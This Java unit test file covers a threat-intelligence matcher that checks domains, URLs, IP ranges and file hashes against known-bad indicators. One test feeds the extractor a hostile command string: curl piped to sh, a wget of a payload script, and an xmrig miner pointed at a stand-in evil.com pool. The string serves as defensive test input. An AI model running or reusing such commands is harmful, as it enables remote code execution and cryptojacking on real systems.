package dev.vigil.ti.match;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.vigil.ti.Indicator;
import dev.vigil.ti.IndicatorKind;
import dev.vigil.ti.extract.ObservableExtractor;
import java.util.List;
import org.junit.jupiter.api.Test;

class DomainUrlHashMatcherTest {
    private static final ThreatIntel TI = ThreatIntel.builder()
            .add(Indicator.of(IndicatorKind.DOMAIN, "evil.com", "d"))
            .add(Indicator.of(IndicatorKind.DOMAIN, "sub.evil.com", "deeper"))
            .add(Indicator.of(IndicatorKind.HOSTNAME, "only.this.example", "h"))
            .add(Indicator.of(IndicatorKind.DOMAIN, "bücher.example", "idn"))
            .add(Indicator.of(IndicatorKind.URL, "HTTP://Dl.Example.NET:80/Payload.sh#frag", "u"))
            .add(Indicator.of(IndicatorKind.CIDR, "203.0.113.0/24", "n"))
            .add(Indicator.of(IndicatorKind.SHA256,
                    "E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855", "s"))
            .build();

    private static List<String> feeds(List<Indicator> r) {
        return r.stream().map(Indicator::feed).collect(java.util.stream.Collectors.toList());
    }

    @Test
    void domainSuffixMatchesOnLabelBoundariesOnly() {
        assertThat(feeds(TI.matchDomain("evil.com"))).containsExactly("d");
        assertThat(feeds(TI.matchDomain("a.b.evil.com"))).containsExactly("d");
        assertThat(feeds(TI.matchDomain("EVIL.COM."))).containsExactly("d");
        assertThat(feeds(TI.matchDomain("x.sub.evil.com"))).containsExactly("deeper");
        assertThat(TI.matchDomain("notevil.com")).isEmpty();
        assertThat(TI.matchDomain("evil.com.attacker.net")).isEmpty();
        assertThat(TI.matchDomain("com")).isEmpty();
        assertThat(TI.matchDomain(".")).isEmpty();
    }

    @Test
    void hostnameIndicatorsMatchExactlyOnly() {
        assertThat(feeds(TI.matchDomain("only.this.example"))).containsExactly("h");
        assertThat(TI.matchDomain("sub.only.this.example")).isEmpty();
    }

    @Test
    void internationalisedNamesMatchInEitherSpelling() {
        assertThat(feeds(TI.matchDomain("shop.xn--bcher-kva.example"))).containsExactly("idn");
        assertThat(feeds(TI.matchDomain("SHOP.BÜCHER.example"))).containsExactly("idn");
        assertThat(TI.stats().domains()).isEqualTo(4);
    }

    @Test
    void urlsMatchCanonicallyThenFallBackToTheirHost() {
        assertThat(feeds(TI.matchUrl("http://dl.example.net/Payload.sh"))).containsExactly("u");
        assertThat(feeds(TI.matchUrl("http://DL.EXAMPLE.NET:80/Payload.sh"))).containsExactly("u");
        assertThat(feeds(TI.matchUrl("http://user@dl.example.net/Payload.sh#x"))).containsExactly("u");
        assertThat(TI.matchUrl("http://dl.example.net/payload.sh")).isEmpty();
        assertThat(TI.matchUrl("https://dl.example.net/Payload.sh")).isEmpty();
        assertThat(feeds(TI.matchUrl("http://cdn.evil.com/whatever"))).containsExactly("d");
        assertThat(feeds(TI.matchUrl("http://203.0.113.5:8080/x.sh"))).containsExactly("n");
        assertThat(TI.matchUrl("http://example.org/")).isEmpty();
    }

    @Test
    void hashesMatchInAnyCase() {
        assertThat(feeds(TI.matchHash("e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855")))
                .containsExactly("s");
        assertThat(feeds(TI.matchHash("E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855")))
                .containsExactly("s");
        assertThat(TI.matchHash("e3b0c44298fc1c149afbf4c8996fb924")).isEmpty();
    }

    @Test
    void hostsDispatchBetweenIpsAndNames() {
        assertThat(feeds(TI.matchHost("203.0.113.200"))).containsExactly("n");
        assertThat(feeds(TI.matchHost("a.evil.com"))).containsExactly("d");
        assertThat(TI.matchHost("198.51.100.1")).isEmpty();
        assertThat(TI.matchHost("")).isEmpty();
    }

    @Test
    void extractedObservablesMatchByKind() {
        String cmd = "curl -s http://203.0.113.9:8080/x.sh | sh; wget -q http://dl.example.net/Payload.sh; "
                + "xmrig -o stratum+tcp://pool.sub.evil.com:3333";
        List<String> hits = ObservableExtractor.extract(cmd).stream()
                .flatMap(o -> TI.match(o).stream())
                .map(Indicator::feed)
                .collect(java.util.stream.Collectors.toList());
        assertThat(hits).containsExactly("n", "u", "deeper");
    }

    @Test
    void invalidIndicatorsAreRejectedWithAReason() {
        assertThatThrownBy(() -> Indicator.of(IndicatorKind.DOMAIN, "com", "f")).hasMessageContaining("single-label");
        assertThatThrownBy(() -> Indicator.of(IndicatorKind.CIDR, "10.0.0.0/33", "f")).hasMessageContaining("network");
        assertThatThrownBy(() -> Indicator.of(IndicatorKind.MD5, "xyz", "f")).hasMessageContaining("32 hex");
        assertThatThrownBy(() -> Indicator.of(IndicatorKind.URL, "http://", "f")).hasMessageContaining("not a URL");
        assertThatThrownBy(() -> new Indicator(IndicatorKind.IPV4, "1.2.3.4", "f", 101, null, null, null, null))
                .hasMessageContaining("confidence");
        assertThat(Indicator.of(IndicatorKind.IPV6, "::ffff:1.2.3.4", "f").kind()).isEqualTo(IndicatorKind.IPV4);
        assertThat(Indicator.of(IndicatorKind.CIDR, "10.1.2.3/8", "f").value()).isEqualTo("10.0.0.0/8");
        assertThat(Indicator.of(IndicatorKind.IPV4, "10.0.0.0/8", "f").kind()).isEqualTo(IndicatorKind.CIDR);
    }
}
